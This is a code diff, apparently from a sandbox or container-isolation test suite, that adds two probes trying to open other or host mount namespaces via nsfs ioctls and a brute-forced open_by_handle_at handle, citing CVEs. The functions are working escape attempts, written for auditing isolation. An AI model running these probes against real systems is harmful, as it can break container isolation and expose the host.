@@ -231,6 +231,30 @@ def mounts_of_others(world: World) -> str | None:
     return f"{count} mounts" if count and address(found) else None
 
 
+@attempt("namespaces", "the next namespace of mounts is opened", "linux/nsfs.h, NS_MNT_GET_NEXT; CVE-2026-43403",
+         proof="claim", control="root")  # fmt: skip
+def next_mounts(world: World) -> str:
+    own, info = os.open("/proc/self/ns/mnt", os.O_RDONLY), buffer(16)
+    try:
+        return f"descriptor {ioctl(own, 0x8010B70B, info)}"
+    except FileNotFoundError:  # the one before it, then
+        return f"descriptor {ioctl(own, 0x8010B70C, info)}"
+
+
+@attempt("namespaces", "the host's namespace of mounts is opened by its handle",
+         "linux/nsfs.h, FD_NSFS_ROOT; CVE-2026-43391", proof="claim")  # fmt: skip
+def namespace_handle(world: World) -> str:
+    """The first namespace of mounts: its inode is fixed (MNT_NS_INIT_INO), and its id is a small number."""
+    refusal = OSError(errno.ESTALE, "none of them")
+    for number in range(1, 17):
+        try:
+            handle = struct.pack("<IiQII", 16, 0xF1, number, NEW["mount"], 0xEFFFFFF8)
+            return f"descriptor {call('open_by_handle_at', -10003, handle, os.O_RDONLY)}"
+        except OSError as error:
+            refusal = error
+    raise refusal
+
+
 @attempt("namespaces", "the host's name is changed", "sethostname(2)", proof="claim", control="root")
 def hostname(world: World) -> str:
     name = os.uname().nodename
